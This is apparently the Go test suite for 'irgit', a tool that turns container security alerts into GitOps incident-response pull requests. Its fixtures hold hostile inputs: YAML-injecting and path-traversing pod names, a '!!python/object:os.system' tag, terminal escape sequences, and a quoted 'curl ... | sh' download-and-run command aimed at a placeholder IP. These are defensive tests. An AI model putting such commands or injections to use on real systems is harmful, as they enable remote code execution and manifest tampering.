package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/irgit/irgit/examples"
	"github.com/irgit/irgit/internal/forge/forgetest"
	"github.com/irgit/irgit/internal/gitops/gittest"
)

// served is the example fleet as a bare repository on disk, behind a server.
type served struct {
	t              *testing.T
	dir, bare, url string
}

func newFleet(t *testing.T, o gittest.Options, files map[string]string) *served {
	t.Helper()
	all, err := examples.Fleet()
	require.NoError(t, err)
	for name, content := range files {
		if all[name] = []byte(content); content == "" {
			delete(all, name)
		}
	}
	f := &served{t: t, dir: t.TempDir()}
	f.bare, err = gittest.NewRepository(t.Context(), f.dir, "acme/fleet.git", all)
	require.NoError(t, err)
	server, err := gittest.Serve(t.Context(), f.dir, o)
	require.NoError(t, err)
	t.Cleanup(func() { require.NoError(t, server.Close()) })
	f.url = server.URL + "/acme/fleet.git"
	return f
}

func (f *served) git(args ...string) string {
	f.t.Helper()
	out, err := gittest.Git(f.t.Context(), f.dir, append([]string{"--git-dir", f.bare}, args...)...)
	require.NoError(f.t, err)
	return strings.TrimSpace(out)
}

func (f *served) refs() string { return f.git("for-each-ref") }

// file writes a file and returns its path.
func (f *served) file(name, content string) string {
	f.t.Helper()
	path := filepath.Join(f.dir, name)
	require.NoError(f.t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(f.t, os.WriteFile(path, []byte(content), 0o600))
	return path
}

// answer runs respond on an alert with JSON output.
func (f *served) answer(alert string, more ...string) (code int, outcomes []map[string]any, stderr string) {
	f.t.Helper()
	args := append([]string{"respond", "--cache", cache, "--repo", f.url, "--alert", f.file("alert.json", alert), "-o", "json"}, more...)
	code, stdout, stderr := irgit(f.t, nil, args...)
	decoder := json.NewDecoder(strings.NewReader(stdout))
	for decoder.More() {
		var o map[string]any
		require.NoError(f.t, decoder.Decode(&o), stdout)
		outcomes = append(outcomes, o)
	}
	return code, outcomes, stderr
}

func example(t *testing.T, name string) string {
	t.Helper()
	data, err := examples.Alert(name)
	require.NoError(t, err)
	return string(data)
}

func terminalShell(t *testing.T) string { return example(t, "falco-terminal-shell.json") }

func TestRespondJSON(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	code, out, stderr := f.answer(terminalShell(t))
	require.Equal(t, exitOK, code, stderr)
	require.Len(t, out, 1)
	o := out[0]
	require.Equal(t, "proposed", o["state"])
	require.Equal(t, "Terminal shell in container", o["alert"].(map[string]any)["rule"])
	in := o["incident"].(map[string]any)
	require.Equal(t, "prod-eu", in["cluster"])
	require.Equal(t, f.git("rev-parse", in["branch"].(string)), in["revision"])
	require.Equal(t, "main", in["base"])
	require.Len(t, o["actions"], 3)
	for _, a := range o["actions"].([]any) {
		require.NotEmpty(t, a.(map[string]any)["files"])
	}
	for _, file := range o["files"].([]any) {
		require.Contains(t, []any{"add", "edit"}, file.(map[string]any)["change"])
	}
	proof := o["proof"].(map[string]any)
	require.Len(t, proof["added"], 2, "the policy and the Flux Kustomization that applies it")
	require.Len(t, proof["changed"], 2, "the autoscaler and the Deployment")
	require.Empty(t, proof["removed"])
	hit := o["blastRadius"].(map[string]any)["workloads"].([]any)
	require.Len(t, hit, 1)
	require.Equal(t, "payments", hit[0].(map[string]any)["name"])
}

func TestPlanChangesNothing(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	before := f.refs()
	for _, output := range []string{"text", "json", "patch"} {
		code, out, stderr := irgit(t, nil, "plan", "--cache", "off", "--repo", f.url, "--alert", f.file("a.json", terminalShell(t)), "-o", output)
		require.Equal(t, exitOK, code, stderr)
		require.Contains(t, out, "irgit-20261123-payments-")
		require.Equal(t, before, f.refs())
	}
	code, out, _ := irgit(t, nil, "plan", "--cache", "off", "--repo", f.bare, "--alert", f.file("a.json", terminalShell(t)))
	require.Equal(t, exitOK, code)
	require.Contains(t, out, "would be proposed", "a local path is a repository too")
}

func TestBadInputIsAnErrorThatNamesTheWayOut(t *testing.T) {
	shell := terminalShell(t)
	edit := func(old, now string) string {
		require.Contains(t, shell, old)
		return strings.Replace(shell, old, now, 1)
	}
	pod, namespace := `"k8s.pod.name": "payments-6d4cf56db6-x2x9p"`, `"k8s.ns.name": "payments"`
	for name, c := range map[string]struct {
		alert string
		files map[string]string
		args  []string
		code  int
		want  string // in the reason or on standard error
	}{
		"a missing workload":        {alert: edit(pod, `"k8s.pod.name": "nobody-6d4cf56db6-x2x9p"`), code: exitRefused, want: "no workload"},
		"a pod name with a newline": {alert: edit(pod, `"k8s.pod.name": "payments\n---\nkind: Secret"`), code: exitRefused},
		"a pod name with a path":    {alert: edit(pod, `"k8s.pod.name": "../../../flux-system"`), code: exitRefused},
		"a namespace with a path":   {alert: edit(namespace, `"k8s.ns.name": "../../flux-system"`), code: exitRefused},
		"a YAML tag":                {alert: edit(pod, `"k8s.pod.name": "!!python/object:os.system"`), code: exitRefused},
		"a pod that is a number":    {alert: edit(pod, `"k8s.pod.name": 42`), code: exitInvalid, want: "k8s.pod.name"},
		"five megabytes in a field": {alert: edit(pod, `"k8s.pod.name": "`+strings.Repeat("a", 5<<20)+`"`), code: exitInvalid, want: "k8s.pod.name"},
		"no namespace":              {alert: edit(namespace+",", ""), code: exitRefused, want: "namespace"},
		"an unknown cluster":        {alert: edit(`"cluster": "prod-eu"`, `"cluster": "prod-mars"`), code: exitRefused, want: "aliases"},
		"no cluster":                {alert: edit(`"cluster": "prod-eu",`, ""), code: exitRefused, want: "--cluster"},
		"another cluster than asked for": {
			alert: shell, args: []string{"--cluster", "staging"}, code: exitRefused, want: "only alerts of cluster staging",
		},
		"--cluster that nobody knows": {alert: edit(`"cluster": "prod-eu",`, ""), args: []string{"--cluster", "mars"}, code: exitUsage, want: "mars"},
		"not JSON":                    {alert: "kind: Secret", code: exitInvalid, want: "JSON"},
		"nothing":                     {alert: " ", code: exitInvalid, want: "empty"},
		"an unknown source":           {alert: shell, args: []string{"--source", "syslog"}, code: exitUsage, want: "syslog"},
		"no fleet configuration":      {alert: shell, files: map[string]string{".irgit.yaml": ""}, code: exitInvalid, want: ".irgit.yaml"},
		"a fleet configuration with a misspelt key": {
			alert: shell, files: map[string]string{".irgit.yaml": "apiVersion: irgit.dev/v1alpha1\nkind: Fleet\nclusterss: []\n"}, code: exitInvalid, want: "clusterss",
		},
		"a kustomization that does not build": {
			alert: shell, files: map[string]string{"apps/prod-eu/kustomization.yaml": "resources: [missing.yaml]\n"}, code: exitInvalid, want: "missing.yaml",
		},
		"a hook that another cluster reads": {
			alert: shell, files: map[string]string{"apps/staging/kustomization.yaml": "resources: [../base/payments]\ntransformers: [../../incident-response/patches/prod-eu/apps]\n"},
			code: exitInvalid, want: "staging",
		},
		"a base branch that is not there": {alert: shell, args: []string{"--base", "trunk"}, code: exitUsage, want: "trunk"},
		"an unknown output":               {alert: shell, args: []string{"-o", "xml"}, code: exitUsage, want: "xml"},
	} {
		t.Run(name, func(t *testing.T) {
			f := newFleet(t, gittest.Options{}, c.files)
			before := f.refs()
			code, out, stderr := f.answer(c.alert, c.args...)
			require.Equal(t, c.code, code, "%v\n%s", out, stderr)
			require.Contains(t, stderr, "irgit: error: ")
			require.Contains(t, stderr, "irgit: hint: ")
			require.Contains(t, fmt.Sprint(out)+stderr, c.want)
			require.Equal(t, before, f.refs(), "nothing half-written")
			require.NotContains(t, stderr, "kind: Secret", "no text of an alert in an error")
		})
	}
}

func TestAnAmbiguousPodIsNobodys(t *testing.T) {
	payments, err := examples.Fleet()
	require.NoError(t, err)
	twin := strings.NewReplacer("kind: Deployment", "kind: ReplicaSet", "name: payments\n  labels:", "name: payments-6d4cf56db6\n  labels:").
		Replace(strings.Split(string(payments["apps/base/payments/payments.yaml"]), "---")[0])
	f := newFleet(t, gittest.Options{}, map[string]string{
		"apps/base/payments/twin.yaml":          twin,
		"apps/base/payments/kustomization.yaml": string(payments["apps/base/payments/kustomization.yaml"]) + "  - twin.yaml\n",
	})
	code, out, _ := f.answer(terminalShell(t))
	require.Equal(t, exitRefused, code)
	require.Contains(t, out[0]["reason"], "Deployment payments/payments")
	require.Contains(t, out[0]["reason"], "ReplicaSet payments/payments-6d4cf56db6")
	require.NotContains(t, f.refs(), "irgit/")
}

func TestGuardrailsRefuse(t *testing.T) {
	shell := terminalShell(t)
	gateway := strings.NewReplacer(`"k8s.ns.name": "payments"`, `"k8s.ns.name": "istio-system"`, `"payments-6d4cf56db6-x2x9p"`, `"istio-ingressgateway-6d4cf56db6-x2x9p"`).Replace(shell)
	f := newFleet(t, gittest.Options{}, nil)
	code, out, stderr := f.answer(gateway)
	require.Equal(t, exitRefused, code, stderr)
	require.Equal(t, "refused", out[0]["state"])
	require.Contains(t, out[0]["reason"], "guardrail G1")
	require.NotContains(t, f.refs(), "irgit/")
}

func TestBrokenPoliciesAndTemplates(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	f.file("policies/p.yaml", "apiVersion: irgit.dev/v1alpha1\nkind: ResponsePolicy\nmetadata:\n  name: p\nspec:\n  tierr: watch\n")
	f.file("templates/t.yaml", "apiVersion: irgit.dev/v1alpha1\nkind: ActionTemplate\nmetadata:\n  name: t\nspec:\n  summry: x\n")
	code, _, stderr := f.answer(terminalShell(t), "--policies", filepath.Join(f.dir, "policies"))
	require.Equal(t, exitInvalid, code)
	require.Contains(t, stderr, "p.yaml:6:3: spec.tierr")
	code, _, stderr = f.answer(terminalShell(t), "--templates", filepath.Join(f.dir, "templates"))
	require.Equal(t, exitInvalid, code)
	require.Contains(t, stderr, "t.yaml:6:3: spec.summry")
	require.NotContains(t, f.refs(), "irgit/")
}

func TestAPolicyMayAskOnlyForParametersThatAnActionHas(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	f.file("policies/p.yaml", `apiVersion: irgit.dev/v1alpha1
kind: ResponsePolicy
metadata:
  name: p
spec:
  tier: isolate
  match:
    rules: [x]
  response:
    - action: quarantine
      parameters:
        dnss: true
  expiry: 1h
`)
	code, _, stderr := irgit(t, nil, "policy", "lint", "--policies", filepath.Join(f.dir, "policies"))
	require.Equal(t, exitInvalid, code)
	require.Contains(t, stderr, "dnss")
	require.Contains(t, stderr, "p.yaml:")
}

func TestARejectingRemoteIsQuoted(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	hook := filepath.Join(f.bare, "hooks", "pre-receive")
	require.NoError(t, os.WriteFile(hook, []byte("#!/bin/sh\necho 'branch names are frozen until Monday' >&2\nexit 1\n"), 0o755)) //nolint:gosec // git runs it
	code, out, stderr := f.answer(terminalShell(t))
	require.Equal(t, exitError, code)
	require.Empty(t, out, "what was not done is not answered")
	require.Contains(t, stderr, "branch names are frozen until Monday")
	require.Contains(t, stderr, "irgit: hint: ")
	require.NotContains(t, f.refs(), "irgit/")
}

func TestAnUnreachableRemoteAndWrongCredentials(t *testing.T) {
	code, _, stderr := irgit(t, nil, "plan", "--cache", cache, "--repo", "http://127.0.0.1:1/fleet.git", "--alert", "../../examples/alerts/falco-terminal-shell.json")
	require.Equal(t, exitError, code)
	require.Contains(t, stderr, "unreachable")
	require.Contains(t, stderr, "irgit: hint: ")
	f := newFleet(t, gittest.Options{Token: "right"}, nil)
	alert := f.file("a.json", terminalShell(t))
	code, _, stderr = irgit(t, []string{"IRGIT_AUTH_TOKEN=canary-wrong"}, "plan", "--cache", cache, "--repo", f.url, "--alert", alert)
	require.Equal(t, exitAuth, code)
	require.NotContains(t, stderr, "canary")
	code, _, stderr = irgit(t, []string{"IRGIT_AUTH_TOKEN=right"}, "plan", "--cache", cache, "--repo", f.url, "--alert", alert)
	require.Equal(t, exitOK, code, stderr)
}

func TestRespondOnGitHub(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	hub := forgetest.New(forgetest.Options{Token: "ghp_right"})
	require.NoError(t, hub.Start(t.Context()))
	t.Cleanup(func() { require.NoError(t, hub.Stop()) })
	environ := []string{"IRGIT_FORGE_URL=" + hub.URL, "IRGIT_FORGE_TOKEN=ghp_right"}
	respond := func(environ []string) (int, string, string) {
		return irgit(t, environ, "respond", "--cache", cache, "--repo", f.url, "--alert", f.file("a.json", terminalShell(t)))
	}
	code, out, stderr := respond(environ)
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, out, "review    ")
	code, out, stderr = respond(environ)
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, out, "unchanged")
	require.Len(t, hub.PullRequests(), 1)
	require.Contains(t, hub.PullRequests()[0].Body, "Deployment")
	code, _, stderr = respond([]string{"IRGIT_FORGE_URL=" + hub.URL, "IRGIT_FORGE_TOKEN=canary"})
	require.Equal(t, exitAuth, code, stderr)
	require.NotContains(t, stderr, "canary")
	code, _, stderr = respond([]string{"IRGIT_FORGE_KIND=github"})
	require.Equal(t, exitUsage, code, stderr)
	require.Contains(t, stderr, "IRGIT_FORGE_TOKEN")
}

func TestIncidentRelease(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	_, out, _ := f.answer(terminalShell(t))
	in := out[0]["incident"].(map[string]any)
	code, _, stderr := irgit(t, nil, "incident", "release", in["id"].(string), "--cache", cache, "--repo", f.url)
	require.Equal(t, exitUsage, code, "it is not merged: %s", stderr)
	f.git("update-ref", "refs/heads/main", in["revision"].(string))
	code, text, stderr := irgit(t, nil, "incident", "release", in["id"].(string), "--cache", cache, "--repo", f.url)
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, text, "irgit/release/"+in["id"].(string))
	require.Contains(t, text, "incident-response/history/2026/")
	for _, id := range []string{"x", "../../etc", "20261123-../../x-00000000"} {
		code, _, _ = irgit(t, nil, "incident", "release", id, "--cache", cache, "--repo", f.url)
		require.Equal(t, exitUsage, code, id)
	}
}

// E1: what an alert says cannot speak to the terminal, and JSON is intact.
func TestThreatE1TerminalEscapes(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	hostile := strings.Replace(terminalShell(t), `"proc.name": "sh"`, `"proc.name": "\u001b]0;x\u0007\u001b[2J\u202e"`, 1)
	hostile = strings.Replace(hostile, `"rule": "Terminal shell in container"`, `"rule": "\u001b[2JTerminal shell"`, 1)
	hostilePolicy := f.file("policies/any.yaml", "apiVersion: irgit.dev/v1alpha1\nkind: ResponsePolicy\nmetadata:\n  name: any\nspec:\n  description: test\n  tier: freeze\n  match:\n    matchAll: true\n  response:\n    - action: freeze-rollout\n  expiry: 1h\n")
	alert := f.file("a.json", hostile)
	for _, command := range [][]string{
		{"plan", "--repo", f.url, "--cache", cache, "--policies", filepath.Dir(hostilePolicy)}, {"policy", "explain", "--cache", cache}, {"policy", "explain", "--repo", f.url, "--cache", cache},
	} {
		code, out, stderr := irgit(t, nil, append(command, "--alert", alert)...)
		require.Equal(t, exitOK, code, stderr)
		require.NotContains(t, out, "\x1b", command)
		require.NotContains(t, out, "\a", command)
		require.NotContains(t, out, "\u202e", command)
	}
	code, out, stderr := f.answer(hostile, "--policies", filepath.Dir(hostilePolicy))
	require.Equal(t, exitOK, code, stderr)
	require.Equal(t, "\x1b[2JTerminal shell", out[0]["alert"].(map[string]any)["rule"])
}

// H1, H2: a secret in an alert is in none of the places that irgit writes to.
func TestThreatH1SecretsLeaveNoTrace(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	password, token := "EAzn"+"Canary7", "ghp_"+strings.Repeat("c4N4ry", 6)
	leaky := strings.Replace(terminalShell(t), `"proc.cmdline": "sh -c curl -s http://203.0.113.66:8080/x.sh | sh"`,
		`"proc.cmdline": "psql postgresql://app:`+password+`@db/x", "proc.env": "TOKEN=`+token+`"`, 1)
	require.Contains(t, leaky, password)
	hub := forgetest.New(forgetest.Options{})
	require.NoError(t, hub.Start(t.Context()))
	t.Cleanup(func() { require.NoError(t, hub.Stop()) })
	code, out, stderr := irgit(t, []string{"IRGIT_FORGE_URL=" + hub.URL, "IRGIT_FORGE_TOKEN=x"}, "respond", "--cache", "off", "--repo", f.url, "--alert", f.file("a.json", leaky), "-o", "json")
	require.Equal(t, exitOK, code, stderr)
	branch := f.git("for-each-ref", "--format=%(refname)", "refs/heads/irgit")
	for where, text := range map[string]string{
		"output": out, "errors": stderr, "commit": f.git("log", "-p", "main.."+branch), "pull request": hub.PullRequests()[0].Body,
	} {
		require.NotContains(t, text, password, where)
		require.NotContains(t, text, token, where)
	}
	require.Contains(t, f.git("log", "-p", branch), "[redacted:")
}

// I1: nothing named in an alert is fetched.
func TestThreatI1NothingIsFetched(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	trap := forgetest.New(forgetest.Options{})
	require.NoError(t, trap.Start(t.Context()))
	t.Cleanup(func() { require.NoError(t, trap.Stop()) })
	alert := fmt.Sprintf(`{"version":"4","groupKey":"x","status":"firing","receiver":"irgit","externalURL":%q,"alerts":[{"status":"firing",
		"labels":{"alertname":"Terminal shell in container","cluster":"prod-eu","namespace":"payments","pod":"payments-6d4cf56db6-x2x9p","severity":"critical"},
		"annotations":{"runbook_url":%q},"startsAt":"2026-11-23T03:12:07Z","generatorURL":%q,"fingerprint":"0123456789abcdef"}]}`, trap.URL, trap.URL+"a", trap.URL+"b")
	code, out, stderr := f.answer(alert)
	require.Equal(t, exitOK, code, stderr)
	require.Equal(t, "proposed", out[0]["state"], out[0]["reason"])
	require.Empty(t, trap.Requests())
}

func TestStandardInput(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	root := newRootCommand(nil)
	var stdout bytes.Buffer
	root.SetIn(strings.NewReader(terminalShell(t)))
	root.SetOut(&stdout)
	root.SetArgs([]string{"plan", "--cache", cache, "--repo", f.url, "--alert", "-", "-o", "json"})
	require.NoError(t, root.ExecuteContext(t.Context()))
	require.Contains(t, stdout.String(), `"state":"proposed"`)
}

func TestCompletion(t *testing.T) {
	code, out, stderr := irgit(t, nil, "completion", "bash")
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, out, "__start_irgit")
}

func TestActionsAndRender(t *testing.T) {
	code, out, stderr := irgit(t, nil, "actions", "list")
	require.Equal(t, exitOK, code, stderr)
	for _, name := range []string{
		"block-egress", "block-metadata", "block-source", "delete-pod", "deny-east-west", "deny-http", "deny-identity", "deny-image", "freeze-changes", "freeze-delivery",
		"freeze-rollout", "freeze-scale", "hold-evidence", "isolate-pod", "observe-traffic", "quarantine", "respawn-hardened", "restart-workload", "revoke-identity",
		"scale-to-zero", "snapshot-volume",
	} {
		require.Contains(t, out, name)
		code, shown, stderr := irgit(t, nil, "actions", "show", name)
		require.Equal(t, exitOK, code, stderr)
		require.Contains(t, shown, "What it does not do")
		require.Contains(t, shown, "D3FEND")
	}
	code, _, stderr = irgit(t, nil, "actions", "show", "quarantin")
	require.Equal(t, exitUsage, code)
	require.Contains(t, stderr, "quarantine")

	f := newFleet(t, gittest.Options{}, nil)
	preview := f.file("p.yaml", "apiVersion: irgit.dev/v1alpha1\nkind: ActionPreview\naction: quarantine\nparameters:\n  dns: true\nfleet: ../../examples/fleet\ntarget:\n  cluster: prod-eu\n  namespace: payments\n  kind: Deployment\n  name: payments\n")
	code, out, stderr = irgit(t, nil, "render", preview)
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, out, "kind: NetworkPolicy")
	require.Contains(t, out, "k8s-app: kube-dns")
	code, out, stderr = irgit(t, nil, "render", preview, "-o", "patch")
	require.Equal(t, exitOK, code, stderr)
	require.Contains(t, out, "new file mode 100644")
	code, _, stderr = irgit(t, nil, "render", f.file("bad.yaml", "apiVersion: irgit.dev/v1alpha1\nkind: ActionPreview\nactoin: quarantine\n"))
	require.Equal(t, exitInvalid, code)
	require.Contains(t, stderr, "bad.yaml:3:1: actoin")
}

// failing is an output that breaks.
type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("the pipe is gone") }

func TestABrokenOutputIsAnError(t *testing.T) {
	f := newFleet(t, gittest.Options{}, nil)
	for _, output := range []string{"json", "patch"} {
		var stderr bytes.Buffer
		code := run(t.Context(), []string{"plan", "--cache", cache, "--repo", f.url, "--alert", f.file("a.json", terminalShell(t)), "-o", output}, nil, failing{}, &stderr)
		require.Equal(t, exitError, code, stderr.String())
	}
}
